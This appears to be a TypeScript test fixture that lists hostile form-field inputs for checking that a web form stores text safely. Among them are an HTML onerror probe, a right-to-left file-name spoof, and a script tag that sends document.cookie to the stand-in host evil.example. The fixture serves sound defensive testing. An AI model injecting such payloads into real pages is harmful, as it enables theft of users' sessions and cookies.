/**
 * Text a person (or a script) may put into any form field. `blank` ones must be refused where
 * the field is required; the others must be kept only as plain text within the field's limit.
 */
export const HOSTILE_TEXT = {
  empty: '',
  whitespace: ' \t\n\u00a0 ',
  tenThousand: 'अ'.repeat(5000) + 'a'.repeat(5000),
  emoji: '🌾 गेहूँ 🐄 👨‍👩‍👧 🛒',
  /** An emoji pair exactly across the 100-character cut. */
  emojiAtTheCut: `x${'🐄'.repeat(5000)}`,
  rightToLeft: 'متجر القرية \u202Egnp.exe\u202C שלום',
  html: '<img src=x onerror="alert(1)"><b>Ramesh</b>',
  script: '<script>document.location="https://evil.example/?c="+document.cookie</script>',
} as const;

export type HostileTextName = keyof typeof HOSTILE_TEXT;

export const HOSTILE_TEXTS = Object.entries(HOSTILE_TEXT) as [HostileTextName, string][];

export const isBlank = (name: HostileTextName): boolean => name === 'empty' || name === 'whitespace';

/** Stored safely: plain text, no longer than the limit, with no half emoji. */
export const isSafeText = (value: unknown, max: number): boolean =>
  typeof value === 'string' && value.length <= max && !LONE_SURROGATE.test(value) && value === value.trim();

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
